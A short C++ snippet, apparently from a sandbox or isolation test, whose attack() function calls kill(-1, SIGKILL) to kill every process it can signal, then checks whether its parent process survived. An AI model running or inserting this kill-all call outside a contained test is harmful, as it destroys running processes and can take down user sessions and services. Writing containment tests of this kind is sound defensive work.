// Kills everything that it may.
#include <csignal>
#include <unistd.h>
bool attack() {
  const pid_t parent = getppid();
  kill(-1, SIGKILL);
  usleep(100000);
  return getppid() != parent;
}
